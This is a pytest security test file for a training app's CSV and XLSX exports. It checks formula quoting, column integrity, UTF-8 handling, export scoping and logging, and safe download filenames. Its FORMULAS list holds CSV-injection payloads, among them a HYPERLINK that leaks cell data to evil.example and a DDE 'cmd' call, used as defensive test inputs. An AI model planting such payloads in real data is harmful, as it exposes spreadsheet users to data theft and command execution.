"""CSV and XLSX exports (RELIABILITY.md §3.7: E series), with learner names that are formulas."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest

from tests.security.conftest import read_log
from training_app.auth.models import User

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"Click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1+1)",
            "\t=1+1", "\r=1+1"]
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def learner_row(db, world) -> User:
    """L1's row, renamed by each test (to a formula, CSV metacharacters, accents)."""
    return db.get(User, world.learner.id)


def _export(client, table: str = "learners", file_format: str = "csv"):
    return client.post_form("/reports/completions/export", {"table": table, "format": file_format})


@pytest.mark.parametrize("formula", FORMULAS)
def test_E1_csv_cells_that_start_a_formula_are_quoted_and_the_file_still_parses(client, db, login, world,
                                                                                   learner_row, formula):
    learner_row.name = formula + ', "quoted"\nnext line'
    db.commit()
    login(world.admin)
    for request in (lambda: _export(client), lambda: client.post_form("/admin/users/export")):
        response = request()  # each stream is read before the next request opens another
        assert response.status_code == 200
        text = response.get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
        assert len({len(row) for row in rows}) == 1, "a name broke the columns"
        for row in rows:
            for value in row:
                assert not value.startswith(STARTS), value
        assert any(value.startswith("'" + formula[0]) for row in rows for value in row)


def test_E2_xlsx_holds_no_formula(client, db, login, world, learner_row):
    learner_row.name = FORMULAS[0]
    db.commit()
    login(world.admin)
    response = _export(client, file_format="xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.data)) as book:
        sheets = [book.read(name).decode() for name in book.namelist() if name.startswith("xl/worksheets/")]
    assert sheets and not any(re.search(r"<f[ >]", sheet) for sheet in sheets)


def test_E3_csv_is_utf8_with_a_bom_and_accents_survive(client, db, login, world, learner_row):
    learner_row.name = "Émilie Ñúñez Müller Façade"
    db.commit()
    login(world.admin)
    data = client.post_form("/admin/users/export").data
    assert data.startswith("\ufeff".encode())
    assert "Émilie Ñúñez Müller Façade" in data.decode("utf-8")


def test_E4_exports_hold_only_the_requesters_scope_and_are_logged(app, client, db, login, world):
    login(world.admin)
    for request in (lambda: _export(client), lambda: client.post_form("/admin/users/export")):
        text = request().get_data(as_text=True)
        assert world.learner.name in text and world.other_learner.name not in text
    events = [line["event"] for line in read_log(app)]
    assert "users.export" in events
    assert any("export" in event and event != "users.export" for event in events)


def test_E5_download_names_are_set_by_the_server_and_rfc_6266_encoded(client, db, login, world):
    login(world.admin)
    for request in (lambda: _export(client), lambda: client.post_form("/admin/users/export"),
                    lambda: client.get("/admin/import/template.csv")):
        response = request()
        response.get_data()
        assert response.status_code == 200, response.request.path
        disposition = response.headers["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert "\r" not in disposition and "\n" not in disposition and ".." not in disposition
        response.close()
    french = client.post_form("/admin/users/export?lang=fr")
    french.get_data()
    assert "filename*=UTF-8''" in french.headers["Content-Disposition"]
